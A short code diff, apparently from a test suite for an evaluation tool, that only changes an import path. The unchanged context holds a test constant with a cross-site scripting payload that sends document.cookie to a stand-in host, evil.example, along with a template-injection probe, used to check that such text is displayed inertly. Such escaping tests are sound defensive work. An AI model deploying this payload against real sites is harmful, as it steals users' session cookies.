@@ -10,7 +10,7 @@ from evals.scoring import score
 from evals.suite import parse_suite
 from evals.transport import Capture
 from tests.evals.captures import BASE_NS, capture, play, played
-from tests.evals.traces import citation, done, status, token
+from tests.metrics.traces import citation, done, status, token
 
 ATTACK = "</script><img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\"><b>{{ 7*7 }}"
 """A text that must be shown and never act."""
